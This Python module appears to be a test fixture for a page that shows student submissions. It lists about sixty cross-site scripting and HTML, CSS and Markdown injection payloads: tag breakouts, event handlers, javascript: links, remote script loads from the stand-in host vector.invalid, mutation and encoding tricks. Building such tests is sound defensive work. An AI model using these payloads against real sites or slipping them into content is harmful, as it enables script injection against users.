"""Texts that come alive in a careless page.

A vector that works sets ``window.hit`` or asks ``vector.invalid`` for something; none opens
a dialog, which would stop the page that is looked at. Each is put wherever a student's text
can stand.
"""

HOST = "http://vector.invalid"
HIT = f"window.hit=1;fetch('{HOST}/hit')"

VECTORS = {
    "a script element": f"<script>{HIT}</script>",
    "a script from elsewhere": f'<script src="{HOST}/x.js"></script>',
    "mixed case, no end tag": f"<ScRiPt>{HIT}//",
    "out of an attribute": f'"><script>{HIT}</script>',
    "out of an attribute in single quotation marks": f"'><script>{HIT}</script>",
    "out of a title": f"</title><script>{HIT}</script>",
    "out of a style": f"</style><script>{HIT}</script>",
    "out of a text area": f"</textarea><script>{HIT}</script>",
    "out of pre and code": f"</code></pre><script>{HIT}</script>",
    "out of a comment": f"--><script>{HIT}</script><!--",
    "out of a script's text": f'";{HIT}//',
    "out of a script element": f"</script><script>{HIT}</script>",
    "JSON in a script": f'{{"a": "</script><script>{HIT}</script>"}}',
    "an image that fails": f'<img src="x:" onerror="{HIT}">',
    "an image that counts readers": f'<img src="{HOST}/seen.png">',
    "an image without quotation marks": f"<img/src=x:\tonerror={HIT}>",
    "an SVG that loads": f'<svg onload="{HIT}"></svg>',
    "a script in an SVG": f"<svg><script>{HIT}</script></svg>",
    "an animation's start": f'<svg><animate onbegin="{HIT}" attributeName="x" dur="1s"/></svg>',
    "a link in an SVG": '<svg><a xlink:href="javascript:window.hit=1"><text y="9">x</text></a>',
    "an element that is opened": f'<details open ontoggle="{HIT}">x</details>',
    "an element that takes the focus": f'<input autofocus onfocus="{HIT}">',
    "an attribute's own focus": f'" autofocus tabindex="0" onfocus="{HIT}" x="',
    "a video without a source": f'<video><source onerror="{HIT}"></video>',
    "a body that loads": f'<body onload="{HIT}">',
    "an animation of CSS": f'<style>@keyframes x{{}}</style><b style="animation:x 1ms" '
    f'onanimationstart="{HIT}">x</b>',
    "a javascript: link": '<a href="javascript:window.hit=1">your grade</a>',
    "a javascript: link with a tab": '<a href="java&#9;script:window.hit=1">your grade</a>',
    "a data: frame": f'<iframe src="data:text/html,<script>{HIT};top.hit=1</script>"></iframe>',
    "a frame with its own text": f'<iframe srcdoc="<script>{HIT};parent.hit=1</script>">',
    "a javascript: frame": '<iframe src="javascript:parent.hit=1"></iframe>',
    "an object": f'<object data="{HOST}/x.html"></object>',
    "an embedded page": f'<embed src="{HOST}/x.html">',
    "a refresh": f'<meta http-equiv="refresh" content="0;url={HOST}/refresh">',
    "another base": f'<base href="{HOST}/"><img src="base.png">',
    "a style sheet": f'<link rel="stylesheet" href="{HOST}/x.css">',
    "an import of CSS": f"<style>@import url({HOST}/x.css);</style>",
    "a background of CSS": f'<p style="background:url({HOST}/x.png)">x</p>',
    "out of a rule of CSS": f"}} body {{ background: url({HOST}/y.png) }}",
    "a form that goes by itself": f'<form action="{HOST}/f"><input name="x"></form>'
    "<script>document.forms[0].submit()</script>",
    "a button of a form": f'<form><button formaction="javascript:{HIT}">points</button></form>',
    "a table's background": f'<table background="{HOST}/t.png"><tr><td>x</td></tr></table>',
    "mutation by MathML": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;'
    f'&lt;img src=x: onerror={HIT}&gt;">',
    "mutation by noscript": f'<noscript><p title="</noscript><img src=x: onerror={HIT}>">',
    "a template": f"<template><script>{HIT}</script></template><script>document.body.append("
    "document.querySelector('template').content)</script>",
    "a Markdown link": f"[your grade](javascript:{HIT})",
    "a Markdown image": f"![x]({HOST}/markdown.png)",
    "a Markdown autolink": f"<{HOST}/auto>",
    "HTML in Markdown": f'**bold** <img src="x:" onerror="{HIT}">',
    "braces of a template": f"{{{{ ''.__class__ }}}} {{% x %}} ${{{HIT}}} $body <%= 1 %>",
    "characters of full width": f"\uff1cscript\uff1e{HIT}\uff1c/script\uff1e",
    "a byte in the middle": f"<scr\0ipt>{HIT}</scr\0ipt>",
    "entities": f"&lt;script&gt;{HIT}&lt;/script&gt;",
    "numbers for letters": f"&#60;script&#62;{HIT}&#60;/script&#62;",
    "UTF-7": "+ADw-script+AD4-window.hit+AD0-1+ADw-/script+AD4-",
    "text that runs backwards": f"\u202e\u2066<script>{HIT}</script>\u2069",
    "a terminal's link": f"\x1b]8;;{HOST}\x07<script>{HIT}</script>\x1b]8;;\x07",
    "a file's name": f"hw1<img src=x: onerror={HIT}>.ipynb",
    "a path": f"../../<svg onload={HIT}>/..",
}
